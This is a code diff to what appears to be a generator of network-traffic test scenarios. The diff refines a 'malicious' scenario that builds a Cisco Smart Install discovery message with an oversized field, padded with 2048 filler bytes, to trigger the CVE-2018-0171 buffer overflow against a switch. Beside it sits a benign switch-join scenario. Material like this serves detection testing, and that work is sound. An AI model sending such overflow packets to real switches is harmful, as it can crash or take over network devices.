@@ -21,11 +21,12 @@ def discovery(length: int, sent: int) -> bytes:
 
 @scenario("BW06", "malicious", **both(command(None), orders=((4, SWITCH),)))  # type: ignore[arg-type]
 def bw06_overflow(wire: Wire) -> None:
-    """A discovery message whose field is far longer than a switch has room for (CVE-2018-0171)."""
+    """A discovery message whose second field is far longer than a switch has room for (CVE-2018-0171)."""
     tcp = Tcp(wire, ROGUE, 50786, SWITCH, smi.PORT)
     tcp.send(smi.probe())
     tcp.reply(smi.probe_reply())
-    tcp.send(discovery(0xC8, 0xC8) + b"B" * 2048, mss=536)
+    first = struct.pack(">II", 2, 8) + bytes(8)
+    tcp.send(smi.message(7, first + struct.pack(">II", 1, 0xC8) + b"A" * 2048, length=24), mss=536)
     tcp.reset()
 
 
@@ -59,6 +60,7 @@ def bw06_switch_joins(wire: Wire) -> None:
     """A new switch joins its director with a discovery message of the usual length, and both keep in touch."""
     tcp = Tcp(wire, SWITCH, 50786, ADMIN, smi.PORT)
     tcp.send(discovery(0x1C, 0x1C))
+    tcp.send(smi.message(7, struct.pack(">II", 2, 64) + bytes(64)))
     tcp.reply(smi.probe())
     tcp.send(smi.probe_reply())
     for _ in range(3):
